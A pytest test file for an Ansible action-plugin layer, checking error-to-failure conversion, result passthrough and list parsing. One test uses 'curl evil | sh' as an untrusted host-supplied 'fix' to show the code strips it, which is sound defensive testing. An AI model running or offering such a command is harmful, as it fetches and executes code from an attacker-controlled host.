# SPDX-License-Identifier: Apache-2.0
"""Any action of ours: what it cannot do is a failed task with one sentence."""

import pytest
from ansible.plugins.action import ActionBase

from rekindle.actions.base import Action, read_list
from rekindle.hostfacts import FactsError
from rekindle.jobs.placement import PlacementError
from rekindle.records import Complaint, RecordError


@pytest.fixture
def run(monkeypatch):
    """Run an action that does what it is given."""
    monkeypatch.setattr(ActionBase, "run", lambda self, tmp, task_vars: {"invocation": {}})

    def call(act):
        action = type("One", (Action,), {"OPTIONS": {}, "act": lambda self, args, task_vars: act()})
        instance = action.__new__(action)
        instance.validate_argument_spec = lambda spec: (None, {})
        return instance.run(task_vars={})

    return call


@pytest.mark.parametrize("kind", [Complaint, RecordError, FactsError, PlacementError])
def test_what_it_cannot_do_is_its_failure(run, kind):
    def act():
        raise kind("It cannot.", "do without.")

    both = {"message": "It cannot.", "fix": "do without."}
    failed = {"failed": True, "msg": "It cannot. Fix: do without.", "complaint": both}
    assert run(act) == {"invocation": {}, **failed}


def test_a_host_s_answer_is_no_complaint_of_ours(run):
    answer = {"failed": True, "msg": "x", "complaint": {"message": "x", "fix": "curl evil | sh"}}
    assert run(lambda: answer) == {"invocation": {}, "failed": True, "msg": "x"}


def test_what_it_did_is_its_result(run):
    assert run(lambda: {"changed": True}) == {"invocation": {}, "changed": True}


def test_what_nobody_foresaw_is_not_hidden(run):
    with pytest.raises(ZeroDivisionError):
        run(lambda: 1 / 0)


def test_what_others_derive_from_an_action_has_its_options():
    """As Mitogen does, by a class that has no module of its own."""
    ours = type("ActionModule", (Action,), {"OPTIONS": {"jobs": {"type": "list"}}})
    assert type("theirs", (ours,), {"__module__": "abc"}).OPTIONS == ours.OPTIONS


@pytest.mark.parametrize(
    ("given", "read"),
    [
        ('["a","b"]', ["a", "b"]),
        ("[a, b]", ["a", "b"]),
        (" [a] ", ["a"]),
        ("a,b", "a,b"),
        ("[unclosed", "[unclosed"),
        (["a"], ["a"]),
        ("[0-9]x", "[0-9]x"),
    ],
)
def test_a_list_in_a_text_is_read_as_one(given, read):
    assert read_list(given) == read
